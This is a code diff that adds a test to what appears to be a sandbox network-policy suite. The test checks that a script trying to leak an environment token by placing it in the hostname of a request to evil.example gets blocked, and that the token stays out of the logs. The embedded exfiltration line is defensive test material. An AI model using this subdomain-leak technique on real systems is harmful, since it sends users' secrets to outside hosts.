@@ -223,6 +223,19 @@ def test_nothing_is_used_or_told_that_opens_after_the_end() -> None:
     assert "ended before" in heard[0].why
 
 
+@pytest.mark.usefixtures("named")
+def test_a_secret_that_is_asked_for_as_a_host_is_not_told(run: Runner, port: int) -> None:
+    script = f"import os, urllib.request as u\nu.urlopen('http://' + os.environ['TOKEN'] + '.evil.example:{port}/')"
+    (run.tree / "leak.py").write_text(script)
+    secret = (("TOKEN", "S3cret-Value-77"),)
+    outcome = run("python3 leak.py 2>&1 | tail -1", network=(f"index.example:{port}",), secrets=secret)
+    assert "403" in run.output
+    [heard] = run.heard
+    told = f"{heard} {outcome.applied['connections']}".lower()
+    assert "s3cret" not in told
+    assert ".evil.example" in heard.target
+
+
 # --- which hosts -----------------------------------------------------------------------------------------
 
 
